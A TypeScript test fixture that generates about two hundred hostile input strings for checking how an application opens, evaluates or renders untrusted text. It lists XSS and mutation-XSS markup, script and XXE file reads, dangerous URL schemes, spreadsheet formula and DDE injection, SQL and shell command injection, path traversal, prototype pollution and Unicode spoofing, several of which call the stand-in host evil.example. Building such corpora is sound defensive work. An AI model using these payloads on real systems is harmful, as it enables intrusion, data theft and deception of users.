/** Two hundred texts that would do something if anything opened, evaluated, interpolated or rendered them (threat T7). */
export function listHostilePayloads(): readonly string[] {
  return [...new Set([...markup(), ...links(), ...formulas, ...characters(), ...structures(), ...templates])];
}

const act = 'window.hit=1';

function markup(): readonly string[] {
  const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbeforetoggle'];
  const tags = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'iframe src=x', 'object data=x', 'marquee', 'select autofocus'];
  return [
    ...tags.flatMap((tag) => handlers.slice(0, 6).map((handler) => `<${tag} ${handler}=${act}>`)),
    `<script>${act}</script>`,
    `"><script>${act}</script>`,
    `'"--></style></script><script>${act}</script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<style>*{display:none}</style>`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<base href=//evil.example/>`,
    `<meta http-equiv=refresh content="0;url=//evil.example/">`,
    `<form action=//evil.example/><button>x</button></form>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
    `<svg><script>${act}</script></svg>`,
    `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
    `<template><img src=x onerror=${act}></template>`,
    `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
    `&lt;script&gt;${act}&lt;/script&gt;`,
    `&#60;img src=x onerror=${act}&#62;`,
    `<![CDATA[<script>${act}</script>]]>`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
    `<a href="javascript:${act}" autofocus>核验通过</a>`,
    `</title><h1>核验通过</h1>`,
    `<dialog open>核验通过</dialog>`,
  ];
}

function links(): readonly string[] {
  const schemes = ['javascript:window.hit=1', 'vbscript:msgbox(1)', 'data:text/html,<script>window.hit=1</script>', 'file:///etc/passwd', 'ms-msdt:/id', 'search-ms:query=x', 'tel:110', 'sms:10086', 'mailto:a@b.c', 'weixin://wap/pay?x', 'alipays://platformapi/startapp?x', 'intent://x#Intent;end', 'chrome://settings', 'about:blank', 'blob:https://evil.example/x', 'view-source:http://evil.example', 'counter://app/', 'ftp://evil.example/x', 'ldap://evil.example/x', '\\\\evil.example\\share'];
  return [...schemes, ...schemes.slice(0, 8).map((scheme) => ` ${scheme}`), 'http://evil.example/?q=核验通过', 'https://evil.example@gov.cn/', 'HTTPS://XN--80AK6AA92E.COM/', 'http://[::1]:8080/rpc', 'http://127.0.0.1:1/#t=x', '//evil.example/x', 'java\tscript:window.hit=1', 'jav&#x09;ascript:window.hit=1'];
}

const formulas = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example","x")', '+1+cmd|x', '-2+3', '@SUM(1+1)', '=1+1', '=IMPORTXML("http://evil.example","//a")', '\t=1+1', '\r=1+1', '=DDE("cmd";"/C calc";"x")'];

function characters(): readonly string[] {
  const controls = [...Array.from({ length: 31 }, (_, index) => index + 1), 0x7f, 0x80, 0x85, 0x9b, 0x9f];
  const others = [0xad, 0x61c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2069, 0xfeff, 0xfff9, 0xe0041];
  return [...controls, ...others].map((point) => `上海${String.fromCodePoint(point)}云帆`).concat(['\u202e通过核验\u202c', '核验\u2067过通\u2069', 'ABC\u001b[31m红\u001b[0m', '\u001b]0;x\u0007', 'a\u0000b', 'e\u0301'.repeat(40), '︎️‍'.repeat(10)]);
}

function structures(): readonly string[] {
  return ['{"__proto__":{"hit":1}}', '{"constructor":{"prototype":{"hit":1}}}', `${'['.repeat(400)}${']'.repeat(400)}`, '{"a":'.repeat(200), '%00%0d%0aSet-Cookie:x=1', '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'C:\\Windows\\System32', "' OR 1=1 --", "'; DROP TABLE scans; --", '1; ATTACH DATABASE \'/tmp/x\' AS x', '911QYM1'.repeat(60), 'A'.repeat(3000), '核'.repeat(900)];
}

const templates = ['{{constructor.constructor("window.hit=1")()}}', '${window.hit=1}', '#{window.hit=1}', '<%= window.hit=1 %>', '{{t("x")}}', '$t(verdict.label)', '{{#if x}}', '[[x]]', '%s%s%s%n', '`id`', '$(id)', '; id', '| id', '&& id', '\\u003cscript\\u003e', '核验通过', 'true', 'null', 'undefined', 'NaN', '__proto__', 'constructor', 'toString'];
